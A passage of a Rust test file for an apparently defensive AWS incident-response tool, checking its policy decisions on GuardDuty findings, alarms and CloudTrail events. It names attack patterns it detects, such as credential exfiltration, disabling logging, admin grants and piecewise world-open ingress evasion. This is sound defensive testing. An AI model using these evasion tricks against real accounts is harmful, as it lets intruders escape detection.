//! Table-driven specifications of the default policy, on realistic payloads from `events/`.

use super::{decide, Policy};
use crate::events::parse_value;
use crate::plan::{Decision, Plan, StepKind};
use serde_json::{json, Value};

fn sample(name: &str) -> Value {
    let path = format!("{}/../events/{name}", env!("CARGO_MANIFEST_DIR"));
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e}"));
    serde_json::from_str(&text).expect("sample events are JSON")
}

/// Apply `(JSON pointer, new value)` edits to a sample; the last segment may be a new key.
fn edited(name: &str, edits: &[(&str, Value)]) -> Value {
    let mut doc = sample(name);
    for (pointer, value) in edits {
        let (parent, key) = pointer.rsplit_once('/').expect("a pointer has a slash");
        let target = doc.pointer_mut(parent).unwrap_or_else(|| panic!("{name} has no {parent}"));
        match target {
            Value::Object(map) => {
                map.insert(key.to_owned(), value.clone());
            }
            Value::Array(list) => list[key.parse::<usize>().expect("an index")] = value.clone(),
            _ => panic!("{name}: {parent} is not a container"),
        }
    }
    doc
}

fn plan_with(doc: Value, policy: &Policy) -> Plan {
    let incidents = parse_value(doc).expect("parses");
    assert_eq!(incidents.len(), 1);
    decide(&incidents[0], policy)
}

fn plan(doc: Value) -> Plan {
    plan_with(doc, &Policy::default())
}

fn action_names(plan: &Plan) -> Vec<&'static str> {
    plan.actions.iter().map(|a| a.step.name()).collect()
}

/// Out of Auto Scaling's hands first: it may terminate the instance during the settle wait.
const CONTAIN: &[&str] = &[
    "detach_from_auto_scaling_group",
    "isolate_instance",
    "revoke_instance_credentials",
    "protect_instance",
    "deregister_from_target_groups",
    "snapshot_volumes",
    "tag_instance",
    "scan_for_malware",
    "verify_containment",
    "notify",
];

/// The sample C&C finding names its domain (`service.action.dnsRequestAction.domain`): it is blocked too,
/// after the cut and before the receipt.
fn contain_naming_a_domain() -> Vec<&'static str> {
    let mut steps = CONTAIN.to_vec();
    steps.insert(steps.len() - 2, "block_domain");
    steps
}

#[test]
fn guardduty_findings_follow_the_severity_table() {
    let gd = "guardduty/ec2-backdoor-high-severity.json";
    let contained = contain_naming_a_domain();
    let cases: Vec<(&str, Value, Decision, &[&str])> = vec![
        ("high severity on an instance is contained", sample(gd), Decision::Contain, &contained),
        ("exactly 7.0 is contained", edited(gd, &[("/detail/severity", json!(7.0))]), Decision::Contain, &contained),
        ("critical is contained", edited(gd, &[("/detail/severity", json!(9.5))]), Decision::Contain, &contained),
        ("6.9 is only notified", edited(gd, &[("/detail/severity", json!(6.9))]), Decision::Notify, &["notify"]),
        ("4.0 is notified", edited(gd, &[("/detail/severity", json!(4))]), Decision::Notify, &["notify"]),
        ("3.9 is ignored", edited(gd, &[("/detail/severity", json!(3.9))]), Decision::Ignore, &[]),
        (
            "a sample is never contained",
            edited(gd, &[("/detail/service/additionalInfo", json!({"sample": true}))]),
            Decision::Notify,
            &["notify"],
        ),
        (
            "a sample flagged inside additionalInfo.value is never contained",
            sample("guardduty/ec2-sample-finding.json"),
            Decision::Notify,
            &["notify"],
        ),
        (
            "an archived finding is ignored",
            edited(gd, &[("/detail/service/archived", json!(true))]),
            Decision::Ignore,
            &[],
        ),
        (
            "a high-severity exfiltration of an instance's credentials revokes them, never contains (#19)",
            sample("guardduty/accesskey-credential-exfiltration.json"),
            Decision::Revoke,
            &["revoke_instance_credentials", "notify"],
        ),
        (
            "an S3 finding at 4.0 is notified",
            edited(gd, &[("/detail/resource", json!({"resourceType": "S3Bucket"})), ("/detail/severity", json!(4.0))]),
            Decision::Notify,
            &["notify"],
        ),
        (
            "an EKS finding at 3.0 is ignored",
            edited(
                gd,
                &[("/detail/resource", json!({"resourceType": "EKSCluster"})), ("/detail/severity", json!(3.0))],
            ),
            Decision::Ignore,
            &[],
        ),
    ];
    for (name, doc, decision, actions) in cases {
        let plan = plan(doc);
        assert_eq!(plan.decision, decision, "{name}: {:?}", plan.reasons);
        assert_eq!(action_names(&plan), actions, "{name}");
        assert!(!plan.reasons.is_empty(), "{name}: every plan explains itself");
    }
}

#[test]
fn sample_findings_are_marked_as_samples_in_the_summary() {
    let plan = plan(sample("guardduty/ec2-sample-finding.json"));
    assert!(plan.summary.starts_with("[SAMPLE]"), "{}", plan.summary);
    assert!(plan.reasons[0].contains("sample"));
}

#[test]
fn containment_threshold_is_configurable() {
    let policy = Policy { contain_min_severity: 5.0, ..Policy::default() };
    let plan = plan_with(sample("guardduty/ec2-medium-severity.json"), &policy);
    assert_eq!(plan.decision, Decision::Contain);
    assert_eq!(plan.instance_id().map(|i| i.as_str()), Some("i-0abc1234def567890"));
}

#[test]
fn an_idle_alarm_gives_the_same_decision_in_all_three_delivery_forms() {
    for form in ["alarm/idle-cpu-eventbridge.json", "alarm/idle-cpu-alarm-action.json", "alarm/idle-cpu-sns.json"] {
        let plan = plan(sample(form));
        assert_eq!(plan.decision, Decision::StopIdle, "{form}: {:?}", plan.reasons);
        assert_eq!(action_names(&plan), ["stop_instance", "notify"], "{form}");
        assert_eq!(plan.instance_id().map(|i| i.as_str()), Some("i-0abc1234def567890"), "{form}");
        assert_eq!(plan.incident.origin.region.as_ref().map(|r| r.as_str()), Some("us-east-1"), "{form}");
    }
}

#[test]
fn alarms_other_than_idle_going_to_alarm_are_notified_and_never_stop_anything() {
    let eb = "alarm/idle-cpu-eventbridge.json";
    let greater = "Threshold Crossed: 1 out of the last 1 datapoints [99.5 (24/11/26 05:00:00)] was greater than the threshold (80.0)";
    let cases: Vec<(&str, Value, Decision)> = vec![
        ("NAT gateway connection surge", sample("alarm/nat-connection-surge-sns.json"), Decision::Notify),
        ("high CPU on an instance", edited(eb, &[("/detail/state/reason", json!(greater))]), Decision::Notify),
        (
            "less-than on free disk space is exhaustion, not idleness",
            edited(eb, &[("/detail/configuration/metrics/0/metricStat/metric/name", json!("disk_free"))]),
            Decision::Notify,
        ),
        ("OK never stops", edited(eb, &[("/detail/state/value", json!("OK"))]), Decision::Ignore),
        (
            "INSUFFICIENT_DATA never stops",
            edited(eb, &[("/detail/state/value", json!("INSUFFICIENT_DATA"))]),
            Decision::Ignore,
        ),
        (
            "an idle alarm with a malformed instance id stops nothing",
            edited(
                eb,
                &[("/detail/configuration/metrics/0/metricStat/metric/dimensions/InstanceId", json!("TestInstance"))],
            ),
            Decision::Notify,
        ),
    ];
    for (name, doc, decision) in cases {
        let plan = plan(doc);
        assert_eq!(plan.decision, decision, "{name}: {:?}", plan.reasons);
        assert!(!plan.has(crate::plan::StepKind::StopInstance), "{name}");
    }
}

#[test]
fn an_alarm_name_matching_the_idle_pattern_is_an_idle_alarm() {
    let greater = "1 datapoint [0.1] was greater than the threshold (0.0)";
    let doc = edited("alarm/idle-cpu-eventbridge.json", &[("/detail/state/reason", json!(greater))]);
    assert_eq!(plan(doc.clone()).decision, Decision::Notify);
    let policy = Policy { idle_alarm_pattern: Some("idle-stop-cpu-*".into()), ..Policy::default() };
    assert_eq!(plan_with(doc, &policy).decision, Decision::StopIdle);
}

#[test]
fn only_an_alarm_named_with_the_opt_in_prefix_may_stop_an_instance() {
    for form in ["alarm/idle-cpu-eventbridge.json", "alarm/idle-cpu-alarm-action.json", "alarm/idle-cpu-sns.json"] {
        let text = sample(form).to_string().replace("idle-stop-cpu-i-", "cpu-low-i-");
        let plan = plan(serde_json::from_str(&text).expect("json"));
        assert_eq!(plan.decision, Decision::Notify, "{form}: {:?}", plan.reasons);
        assert!(!plan.has(crate::plan::StepKind::StopInstance), "{form}");
        assert!(plan.reasons[0].contains("only an alarm named idle-stop-"), "{form}: {:?}", plan.reasons);
    }
    let text = sample(CONTRIBUTOR).to_string().replace("idle-stop-fleet-cpu", "fleet-cpu");
    let plan = plan(serde_json::from_str(&text).expect("json"));
    assert_eq!(plan.decision, Decision::Notify, "a contributor too: {:?}", plan.reasons);
    let own = Policy { idle_alarm_prefix: "platform-idle-".into(), ..Policy::default() };
    let text = sample("alarm/idle-cpu-sns.json").to_string().replace("idle-stop-cpu-i-", "platform-idle-cpu-i-");
    assert_eq!(plan_with(serde_json::from_str(&text).expect("json"), &own).decision, Decision::StopIdle);
}

#[test]
fn ok_after_alarm_is_notified_as_resolved_only_when_asked() {
    let doc = edited("alarm/nat-connection-surge-sns.json", &[]);
    let mut message: Value =
        serde_json::from_str(doc["Records"][0]["Sns"]["Message"].as_str().expect("string")).expect("json");
    message["NewStateValue"] = json!("OK");
    message["OldStateValue"] = json!("ALARM");
    let mut doc = doc;
    doc["Records"][0]["Sns"]["Message"] = json!(message.to_string());
    assert_eq!(plan(doc.clone()).decision, Decision::Ignore);
    let policy = Policy { notify_resolved: true, ..Policy::default() };
    let resolved = plan_with(doc, &policy);
    assert_eq!(resolved.decision, Decision::Notify);
    assert!(resolved.reasons[0].contains("resolved"));
}

/// A record of `name` as CloudTrail writes it, from the service that owns the call.
fn cloudtrail(name: &str, identity: Value, request: Value) -> Value {
    let source = super::DETECTED_EVENTS
        .iter()
        .chain(super::SELF_CHANGE_EVENTS)
        .find(|(_, n)| *n == name)
        .map_or("ec2.amazonaws.com", |(s, _)| *s);
    edited(
        "cloudtrail/sg-open-ssh-to-world.json",
        &[
            ("/detail/eventName", json!(name)),
            ("/detail/eventSource", json!(source)),
            ("/detail/userIdentity", identity),
            ("/detail/requestParameters", request),
            ("/detail/responseElements", Value::Null),
        ],
    )
}

fn user() -> Value {
    json!({"type": "IAMUser", "arn": "arn:aws:iam::123456789012:user/dev-alice", "userName": "dev-alice", "accountId": "123456789012"})
}

#[test]
fn risky_cloudtrail_activity_is_notified_under_its_rule() {
    let root = json!({"type": "Root", "arn": "arn:aws:iam::123456789012:root", "accountId": "123456789012"});
    let cases: Vec<(&str, Value, &str)> = vec![
        ("root call", cloudtrail("RunInstances", root.clone(), json!({})), "CT-ROOT-001"),
        ("root access key", cloudtrail("CreateAccessKey", root.clone(), Value::Null), "CT-ROOT-003"),
        ("stop logging", cloudtrail("StopLogging", user(), json!({"name": "main"})), "CT-LOG-001"),
        ("delete trail", cloudtrail("DeleteTrail", user(), json!({"name": "main"})), "CT-LOG-001"),
        ("detector deleted", cloudtrail("DeleteDetector", user(), json!({"detectorId": "abc"})), "CT-GD-001"),
        (
            "detector disabled",
            cloudtrail("UpdateDetector", user(), json!({"detectorId": "abc", "enable": false})),
            "CT-GD-001",
        ),
        (
            "admin policy attached",
            cloudtrail(
                "AttachRolePolicy",
                user(),
                json!({"roleName": "x", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
            ),
            "CT-IAM-001",
        ),
        (
            "inline * on *",
            cloudtrail(
                "PutUserPolicy",
                user(),
                json!({"userName": "x", "policyDocument": "{\"Statement\":{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}}"}),
            ),
            "CT-IAM-001",
        ),
        ("kms disabled", cloudtrail("DisableKey", user(), json!({"keyId": "k"})), "CT-KMS-001"),
        ("kms deletion", cloudtrail("ScheduleKeyDeletion", user(), json!({"keyId": "k"})), "CT-KMS-001"),
        (
            "snapshot made public",
            cloudtrail(
                "ModifySnapshotAttribute",
                user(),
                json!({"snapshotId": "snap-1", "createVolumePermission": {"add": {"items": [{"group": "all"}]}}}),
            ),
            "CT-EC2-001",
        ),
    ];
    for (name, doc, rule) in cases {
        let plan = plan(doc);
        assert_eq!(plan.decision, Decision::Notify, "{name}: {:?}", plan.reasons);
        assert_eq!(plan.rule, Some(rule), "{name}");
        assert_eq!(action_names(&plan), ["notify"], "{name}");
    }
}

#[test]
fn calls_that_change_nothing_are_ignored() {
    let attach = json!({"roleName": "x", "policyArn": "arn:aws:iam::aws:policy/ReadOnlyAccess"});
    let cases: Vec<(&str, Value)> = vec![
        ("read-only call", cloudtrail("DescribeInstances", user(), json!({}))),
        ("non-admin policy", cloudtrail("AttachRolePolicy", user(), attach)),
        ("detector enabled", cloudtrail("UpdateDetector", user(), json!({"detectorId": "abc", "enable": true}))),
    ];
    for (name, doc) in cases {
        assert_eq!(plan(doc).decision, Decision::Ignore, "{name}");
    }
}

#[test]
fn a_world_open_ingress_rule_on_a_non_allowed_port_is_revoked_and_only_that_rule() {
    let plan = plan(sample("cloudtrail/sg-open-ssh-to-world.json"));
    assert_eq!(plan.decision, Decision::Revoke);
    assert_eq!(plan.rule, Some("CT-NET-001"));
    assert_eq!(action_names(&plan), ["revoke_security_group_ingress", "notify"]);
    let crate::plan::Step::RevokeSecurityGroupIngress { group_id, permissions, .. } = &plan.actions[0].step else {
        panic!("first action is the revocation")
    };
    assert_eq!(group_id, "sg-0123456789abcdef0");
    assert_eq!(permissions.len(), 1, "443 is allowed, so only 22 is revoked");
    assert_eq!(permissions[0].from_port, Some(22));
    assert_eq!(permissions[0].rule_id.as_deref(), Some("sgr-0aaaaaaaaaaaaaaa1"));
}

#[test]
fn ingress_remediation_is_never_applied_to_failed_calls_or_when_switched_off() {
    let failed = edited(
        "cloudtrail/sg-open-ssh-to-world.json",
        &[("/detail/errorCode", json!("Client.InvalidPermission.Duplicate"))],
    );
    assert_eq!(plan(failed).decision, Decision::Ignore);
    let denied =
        edited("cloudtrail/sg-open-ssh-to-world.json", &[("/detail/errorCode", json!("Client.UnauthorizedOperation"))]);
    let denied = plan(denied);
    assert_eq!(denied.decision, Decision::Notify, "a denied attempt is itself the signal");
    assert!(!denied.has(crate::plan::StepKind::RevokeSecurityGroupIngress));
    let policy = Policy { revoke_public_ingress: false, ..Policy::default() };
    let off = plan_with(sample("cloudtrail/sg-open-ssh-to-world.json"), &policy);
    assert_eq!(action_names(&off), ["notify"]);
    let allowed = Policy { allowed_public_ports: vec![22, 443], ..Policy::default() };
    assert_eq!(plan_with(sample("cloudtrail/sg-open-ssh-to-world.json"), &allowed).decision, Decision::Ignore);
}

#[test]
fn firebreaks_own_role_is_ignored_so_remediation_cannot_loop() {
    let identity = json!({
        "type": "AssumedRole",
        "arn": "arn:aws:sts::123456789012:assumed-role/firebreak-cloudtrail/session",
        "sessionContext": {"sessionIssuer": {"arn": "arn:aws:iam::123456789012:role/firebreak-cloudtrail"}}
    });
    let doc = edited("cloudtrail/sg-open-ssh-to-world.json", &[("/detail/userIdentity", identity)]);
    assert_eq!(plan(doc.clone()).decision, Decision::Revoke);
    let policy = Policy {
        self_role_arns: vec!["arn:aws:iam::123456789012:role/firebreak-cloudtrail".into()],
        ..Policy::default()
    };
    let plan = plan_with(doc, &policy);
    assert_eq!(plan.decision, Decision::Ignore);
    assert!(plan.reasons[0].contains("own role"));
}

#[test]
fn console_sign_in_without_mfa_is_compared_case_insensitively() {
    let signin = |mfa: &str, kind: &str| {
        json!({"detail-type": "AWS Console Sign In via CloudTrail", "source": "aws.signin", "account": "123456789012", "region": "us-east-1",
               "detail": {"eventName": "ConsoleLogin", "eventSource": "signin.amazonaws.com", "eventType": "AwsConsoleSignIn",
                          "userIdentity": {"type": kind, "arn": "arn:aws:iam::123456789012:user/bob", "userName": "bob"},
                          "responseElements": {"ConsoleLogin": "Success"}, "additionalEventData": {"MFAUsed": mfa}}})
    };
    assert_eq!(plan(signin("No", "IAMUser")).rule, Some("CT-SIGNIN-001"));
    assert_eq!(plan(signin("YES", "IAMUser")).decision, Decision::Ignore);
    assert_eq!(plan(signin("Yes", "IAMUser")).decision, Decision::Ignore);
    let root = plan(signin("No", "Root"));
    assert_eq!(root.rule, Some("CT-ROOT-002"));
    assert_eq!(root.severity, crate::incident::SeverityLabel::Critical);
}

#[test]
fn redelivery_of_the_same_finding_gives_the_same_incident_key() {
    let first = plan(sample("guardduty/ec2-backdoor-high-severity.json"));
    let again = plan(edited(
        "guardduty/ec2-backdoor-high-severity.json",
        &[("/id", json!("another-envelope-id")), ("/detail/service/count", json!(7))],
    ));
    assert_eq!(first.incident_key, again.incident_key);
    assert_eq!(first.incident_key, "incident#guardduty#123456789012#us-east-1#a8c4e2f1b3d5c7e9f0a1b2c3d4e5f6a7");
}

#[test]
fn a_rule_modified_to_be_world_open_is_revoked_by_its_rule_id() {
    let request = json!({"ModifySecurityGroupRulesRequest": {"GroupId": "sg-0123456789abcdef0", "SecurityGroupRule": {
        "SecurityGroupRuleId": "sgr-0bbbbbbbbbbbbbbb1",
        "SecurityGroupRule": {"IpProtocol": "tcp", "FromPort": 3389, "ToPort": 3389, "CidrIpv4": "0.0.0.0/0", "Description": ""}}}});
    let plan = plan(cloudtrail("ModifySecurityGroupRules", user(), request));
    assert_eq!(plan.decision, Decision::Revoke, "{:?}", plan.reasons);
    let crate::plan::Step::RevokeSecurityGroupIngress { group_id, permissions, .. } = &plan.actions[0].step else {
        panic!("revocation first")
    };
    assert_eq!(group_id, "sg-0123456789abcdef0");
    assert_eq!(permissions[0].rule_id.as_deref(), Some("sgr-0bbbbbbbbbbbbbbb1"));
    assert_eq!(permissions[0].from_port, Some(3389));
}

#[test]
fn incidents_outside_the_account_and_region_allowlists_are_refused_and_notified() {
    let accounts = Policy { accounts: vec!["111122223333".into()], ..Policy::default() };
    let plan = plan_with(sample("guardduty/ec2-backdoor-high-severity.json"), &accounts);
    assert_eq!(plan.decision, Decision::Notify);
    assert_eq!(action_names(&plan), ["notify"]);
    assert!(plan.reasons[0].contains("FIREBREAK_ACCOUNTS"), "{:?}", plan.reasons);
    let regions = Policy { regions: vec!["eu-west-1".into()], ..Policy::default() };
    let plan = plan_with(sample("alarm/idle-cpu-sns.json"), &regions);
    assert_eq!(action_names(&plan), ["notify"]);
    assert!(plan.reasons[0].contains("FIREBREAK_REGIONS"));
    let inside =
        Policy { accounts: vec!["123456789012".into()], regions: vec!["us-east-1".into()], ..Policy::default() };
    assert_eq!(plan_with(sample("guardduty/ec2-backdoor-high-severity.json"), &inside).decision, Decision::Contain);
}

/// An `AuthorizeSecurityGroupIngress` record as CloudTrail writes it, with these request permissions
/// and no response rule set (older records, or one the parser must not need).
fn ingress(permissions: Value) -> Value {
    edited(
        "cloudtrail/sg-open-ssh-to-world.json",
        &[
            ("/detail/requestParameters/ipPermissions", json!({"items": permissions})),
            ("/detail/responseElements", json!({"_return": true})),
        ],
    )
}

fn tcp22(v4: &[&str], v6: &[&str]) -> Value {
    let v4: Vec<Value> = v4.iter().map(|c| json!({"cidrIp": c})).collect();
    let v6: Vec<Value> = v6.iter().map(|c| json!({"cidrIpv6": c})).collect();
    json!({"ipProtocol": "tcp", "fromPort": 22, "toPort": 22, "groups": {}, "ipRanges": {"items": v4}, "ipv6Ranges": {"items": v6}, "prefixListIds": {}})
}

#[test]
fn the_world_however_it_is_spelt_is_the_world() {
    let open: Vec<(&str, Value, usize)> = vec![
        ("0::/0", ingress(json!([tcp22(&[], &["0::/0"])])), 1),
        ("::0/0", ingress(json!([tcp22(&[], &["::0/0"])])), 1),
        ("10.20.30.40/0", ingress(json!([tcp22(&["10.20.30.40/0"], &[])])), 1),
        ("two halves in one permission", ingress(json!([tcp22(&["0.0.0.0/1", "128.0.0.0/1"], &[])])), 2),
        (
            "two halves in two permissions",
            ingress(json!([tcp22(&["0.0.0.0/1"], &[]), tcp22(&["128.0.0.0/1"], &[])])),
            2,
        ),
    ];
    for (name, doc, revoked) in open {
        let plan = plan(doc);
        assert_eq!(plan.decision, Decision::Revoke, "{name}: {:?}", plan.reasons);
        let crate::plan::Step::RevokeSecurityGroupIngress { permissions, .. } = &plan.actions[0].step else {
            panic!("{name}")
        };
        assert_eq!(permissions.len(), revoked, "{name}: every range that makes up the world is revoked");
    }
    // Not the world, so never revoked by default; but half an address family in one range is for a
    // person to look at (attack 6 of the trust issue), a private range is not.
    let narrow: Vec<(&str, Value, Decision)> = vec![
        ("one half", ingress(json!([tcp22(&["0.0.0.0/1"], &[])])), Decision::Notify),
        ("half of IPv6", ingress(json!([tcp22(&[], &["::/1"])])), Decision::Notify),
        ("a private range", ingress(json!([tcp22(&["10.0.0.0/8"], &[])])), Decision::Ignore),
        ("a quarter", ingress(json!([tcp22(&["0.0.0.0/2"], &[])])), Decision::Ignore),
        (
            "halves on different ports",
            ingress(
                json!([tcp22(&["0.0.0.0/1"], &[]), {"ipProtocol": "tcp", "fromPort": 23, "toPort": 23, "ipRanges": {"items": [{"cidrIp": "128.0.0.0/1"}]}}]),
            ),
            Decision::Notify,
        ),
    ];
    for (name, doc, decision) in narrow {
        let plan = plan(doc);
        assert_eq!(plan.decision, decision, "{name}: {:?}", plan.reasons);
        assert!(!plan.has(crate::plan::StepKind::RevokeSecurityGroupIngress), "{name}");
        if decision == Decision::Notify {
            assert!(
                plan.reasons[0].contains("one range covering 50 % of the address family"),
                "{name}: {:?}",
                plan.reasons
            );
        }
    }
    // A lower share is a setting: half of IPv4 is then the world too.
    let half = Policy { world_open_share: 0.5, ..Policy::default() };
    assert_eq!(plan_with(ingress(json!([tcp22(&["0.0.0.0/1"], &[])])), &half).decision, Decision::Revoke);
}

/// The plan for `doc` when the state table remembers `earlier` for its group.
fn plan_after(doc: Value, earlier: crate::incident::EarlierIngress) -> Plan {
    let mut incident = parse_value(doc).expect("parses").remove(0);
    let crate::incident::IncidentKind::Cloudtrail(event) = &mut incident.kind else { panic!("a CloudTrail event") };
    event.earlier_ingress = earlier;
    decide(&incident, &Policy::default())
}

fn remembered(cidrs: &[&str]) -> crate::incident::EarlierIngress {
    let permissions = cidrs
        .iter()
        .map(|c| crate::incident::IngressPermission {
            protocol: "tcp".into(),
            from_port: Some(22),
            to_port: Some(22),
            cidr: (*c).into(),
            rule_id: None,
        })
        .collect();
    crate::incident::EarlierIngress::Read { permissions, window_seconds: 86_400 }
}

#[test]
fn the_internet_opened_in_pieces_across_calls_is_judged_whole() {
    // Attack 6 of the trust issue: each call opens a quarter pair (50 %, no range of half): quiet alone.
    let second = || ingress(json!([tcp22(&["128.0.0.0/2", "192.0.0.0/2"], &[])]));
    let alone = plan(second());
    assert_eq!(alone.decision, Decision::Ignore);
    assert!(
        alone.reasons[0].contains("cover at most 50.0 % of IPv4: below FIREBREAK_WORLD_OPEN_SHARE"),
        "{:?}",
        alone.reasons
    );

    // With the first call's quarters remembered (this call's own ranges are in the set too), it is the world.
    let together = plan_after(second(), remembered(&["0.0.0.0/2", "64.0.0.0/2", "128.0.0.0/2", "192.0.0.0/2"]));
    assert_eq!(together.decision, Decision::Revoke, "{:?}", together.reasons);
    let crate::plan::Step::RevokeSecurityGroupIngress { permissions, judged_together, .. } = &together.actions[0].step
    else {
        panic!("a revocation first")
    };
    let cidrs: Vec<&str> = permissions.iter().map(|p| p.cidr.as_str()).collect();
    assert_eq!(cidrs, ["128.0.0.0/2", "192.0.0.0/2", "0.0.0.0/2", "64.0.0.0/2"]);
    assert!(judged_together, "revoked only if the group holds the earlier ranges too");
    assert!(together.reasons[0].contains("0.0.0.0/2 (added by an earlier call)"), "{:?}", together.reasons);
    assert!(together.reasons.iter().any(|r| r.contains("within the last 24 h")), "{:?}", together.reasons);

    // Earlier ranges on another port, or not adding up, change nothing; nor does a window the table
    // could not read, which the plan names.
    let other_port = plan_after(
        ingress(
            json!([{"ipProtocol": "tcp", "fromPort": 23, "toPort": 23, "ipRanges": {"items": [{"cidrIp": "128.0.0.0/2"}, {"cidrIp": "192.0.0.0/2"}]}}]),
        ),
        remembered(&["0.0.0.0/2", "64.0.0.0/2"]),
    );
    assert_eq!(other_port.decision, Decision::Ignore, "{:?}", other_port.reasons);
    let short = plan_after(second(), remembered(&["0.0.0.0/2", "128.0.0.0/2", "192.0.0.0/2"]));
    assert_eq!(short.decision, Decision::Ignore);
    assert!(
        short.reasons[0].contains("75.0 % of IPv4 with the ranges earlier calls added within the last 24 h"),
        "{:?}",
        short.reasons
    );
    let unread =
        plan_after(second(), crate::incident::EarlierIngress::Unavailable { why: "state table: throttled".into() });
    assert_eq!(unread.decision, Decision::Ignore);
    assert!(unread
        .reasons
        .iter()
        .any(|r| r.contains("could not be read (state table: throttled): this call was judged alone")));
    // A call that opens the world by itself needs no earlier call, and says nothing of one.
    let world = plan_after(ingress(json!([tcp22(&["0.0.0.0/0"], &[])])), remembered(&["0.0.0.0/2", "0.0.0.0/0"]));
    let crate::plan::Step::RevokeSecurityGroupIngress { permissions, judged_together, .. } = &world.actions[0].step
    else {
        panic!()
    };
    assert_eq!((permissions.len(), *judged_together), (1, false));
}

#[test]
fn the_revocation_uses_ec2s_canonical_rule_and_its_id_from_the_response() {
    // The request says 10.20.30.40/0; EC2 stored, and the response records, 0.0.0.0/0 as sgr-….
    let doc = edited(
        "cloudtrail/sg-open-ssh-to-world.json",
        &[
            ("/detail/requestParameters/ipPermissions", json!({"items": [tcp22(&["10.20.30.40/0"], &[])]})),
            (
                "/detail/responseElements/securityGroupRuleSet",
                json!({"items": [{"groupOwnerId": "123456789012", "groupId": "sg-0123456789abcdef0", "securityGroupRuleId": "sgr-0bbbbbbbbbbbbbbb1", "isEgress": false, "ipProtocol": "tcp", "fromPort": 22, "toPort": 22, "cidrIpv4": "0.0.0.0/0", "securityGroupRuleArn": "arn:aws:ec2:us-east-1:123456789012:security-group-rule/sgr-0bbbbbbbbbbbbbbb1"}]}),
            ),
        ],
    );
    let plan = plan(doc);
    let crate::plan::Step::RevokeSecurityGroupIngress { permissions, .. } = &plan.actions[0].step else { panic!() };
    assert_eq!(permissions[0].cidr, "0.0.0.0/0");
    assert_eq!(permissions[0].rule_id.as_deref(), Some("sgr-0bbbbbbbbbbbbbbb1"));
}

#[test]
fn a_group_named_without_an_id_and_a_prefix_list_are_notified_precisely() {
    let by_name = edited(
        "cloudtrail/sg-open-ssh-to-world.json",
        &[
            (
                "/detail/requestParameters",
                json!({"groupName": "default", "ipPermissions": {"items": [tcp22(&["0.0.0.0/0"], &[])]}}),
            ),
            ("/detail/responseElements", json!({"_return": true})),
        ],
    );
    let plan1 = plan(by_name);
    assert_eq!(plan1.decision, Decision::Notify);
    assert!(
        plan1.reasons.iter().any(|r| r.contains("\"default\"") && r.contains("--group-name")),
        "{:?}",
        plan1.reasons
    );
    let prefix_list = ingress(
        json!([{"ipProtocol": "tcp", "fromPort": 22, "toPort": 22, "prefixListIds": {"items": [{"prefixListId": "pl-0123456789abcdef0"}]}}]),
    );
    let plan2 = plan(prefix_list);
    assert_eq!(plan2.decision, Decision::Notify);
    assert!(plan2.reasons.iter().any(|r| r.contains("pl-0123456789abcdef0")), "{:?}", plan2.reasons);
}

#[test]
fn only_firebreaks_exact_roles_are_self_and_its_member_role_is() {
    let assumed = |arn: &str| {
        let issuer = arn.to_owned();
        let account = arn.split(':').nth(4).unwrap_or_default().to_owned();
        json!({"type": "AssumedRole", "arn": format!("arn:aws:sts::{account}:assumed-role/x/session"), "accountId": account,
               "sessionContext": {"sessionIssuer": {"type": "Role", "arn": issuer, "userName": "x", "accountId": account}}})
    };
    let with = |arn: &str, account: &str| {
        let mut doc = ingress(json!([tcp22(&["0.0.0.0/0"], &[])]));
        doc["detail"]["userIdentity"] = assumed(arn);
        doc["account"] = json!(account);
        doc["detail"]["recipientAccountId"] = json!(account);
        doc
    };
    let policy = Policy {
        self_role_arns: vec!["arn:aws:iam::123456789012:role/firebreak-cloudtrail-responder-us-east-1".into()],
        accounts: vec!["123456789012".into(), "222222222222".into()],
        ..Policy::default()
    };
    let own = with("arn:aws:iam::123456789012:role/firebreak-cloudtrail-responder-us-east-1", "123456789012");
    assert_eq!(plan_with(own, &policy).decision, Decision::Ignore, "its own call");
    let member = with("arn:aws:iam::222222222222:role/firebreak-member", "222222222222");
    assert_eq!(plan_with(member, &policy).decision, Decision::Ignore, "its member role in an account it acts in");
    for (arn, account, why) in [
        (
            "arn:aws:iam::333333333333:role/firebreak-cloudtrail-responder-us-east-1",
            "333333333333",
            "same name, another account",
        ),
        (
            "arn:aws:iam::123456789012:role/evil/firebreak-cloudtrail-responder-us-east-1",
            "123456789012",
            "same name, another path",
        ),
        (
            "arn:aws:iam::333333333333:role/firebreak-member",
            "333333333333",
            "member role name in an account outside the list",
        ),
        ("arn:aws:iam::222222222222:role/x/firebreak-member", "222222222222", "member role name under a path"),
    ] {
        assert_ne!(plan_with(with(arn, account), &policy).decision, Decision::Ignore, "{why}");
    }
}

/// Attack 5 of the trust issue, both ways: Firebreak's own roles are recognised with the default empty
/// account list (else the CloudTrail responder revokes the rules of its own untracking group, a loop),
/// and what they grant is watched: Firebreak writes only deny policies.
#[test]
fn firebreaks_own_roles_are_recognised_everywhere_and_any_grant_they_write_is_critical() {
    let member = |account: &str| {
        json!({"type": "AssumedRole", "arn": format!("arn:aws:sts::{account}:assumed-role/firebreak-member/firebreak"),
               "accountId": account, "sessionContext": {"sessionIssuer": {"type": "Role",
               "arn": format!("arn:aws:iam::{account}:role/firebreak-member"), "userName": "firebreak-member", "accountId": account}}})
    };
    let every_account = Policy::default();
    assert!(every_account.accounts.is_empty());
    let mut untracking = ingress(json!([{"ipProtocol": "-1", "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}]));
    untracking["detail"]["userIdentity"] = member("444455556666");
    let own = plan_with(untracking, &every_account);
    assert_eq!(own.decision, Decision::Ignore, "its own untracking group in any account: {:?}", own.reasons);

    let deny = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Deny","Action":"*","Resource":"*","Condition":{"StringLike":{"ec2:SourceInstanceARN":["*/i-0abc1234def567890"]}}}]}"#;
    let allow = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"*"}]}"#;
    let revocation = cloudtrail(
        "PutRolePolicy",
        member("444455556666"),
        json!({"roleName": "web-role", "policyName": "firebreak-revoked-instances", "policyDocument": deny}),
    );
    assert_eq!(plan_with(revocation, &every_account).decision, Decision::Ignore, "its own revocation");
    for (name, request) in [
        ("PutRolePolicy", json!({"roleName": "firebreak-member", "policyName": "x", "policyDocument": allow})),
        (
            "CreatePolicyVersion",
            json!({"policyArn": "arn:aws:iam::444455556666:policy/p", "policyDocument": allow, "setAsDefault": true}),
        ),
